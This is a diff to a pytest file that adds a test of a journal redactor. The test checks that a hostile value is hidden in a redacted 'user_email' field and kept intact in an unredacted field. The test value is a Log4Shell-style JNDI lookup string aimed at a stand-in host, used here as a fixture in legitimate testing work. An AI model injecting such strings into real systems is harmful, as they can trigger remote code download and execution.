@@ -12,6 +12,7 @@ import pytest
 from rampcheck.wire.client import Lane
 from rampcheck.wire.exchanges import Exchange, Message
 from rampcheck.wire.journal import Journal, exchange_records, folded, from_record, read_records, timestamp
+from rampcheck.wire.recipes import Recipes
 from rampcheck.wire.redaction import Redactor
 from tests import samples
 
@@ -95,6 +96,23 @@ def test_the_beginning_is_redacted(journal: Journal) -> None:
     assert SECRET not in text
     assert "password" not in text
     assert "[1, true, null, " in text
+
+
+def test_what_a_request_makes_up_hides_nothing_elsewhere(tmp_path: Path) -> None:
+    """A hostile text is hidden in a member that is hidden, and nowhere else; nor is a text that shares much of it."""
+    redactor = Redactor(b"key")
+    journal = Journal(tmp_path / "journal.jsonl", redactor, frozenset({"user_email"}), recipes=Recipes({}, redactor))
+    made_up, redirect = "${jndi:ldap://rampcheck.example/x}", "https://rampcheck.example/done"
+    asked = from_record(
+        samples.exchange(1, 400, json.dumps({"user_email": made_up}), json.dumps({"user_email": made_up}))
+    )
+    hidden = journal.exchange(asked)
+    assert hidden["response"] is not None
+    assert made_up not in hidden["request"]["body"] + hidden["response"]["body"]
+    body = json.dumps({"redirect_url": redirect, "note": made_up})
+    shown = journal.exchange(from_record(samples.exchange(2, 200, body, body)))
+    assert shown["response"] is not None
+    assert shown["request"]["body"] == shown["response"]["body"] == body
 
 
 def finding(clause: str) -> dict[str, Any]:
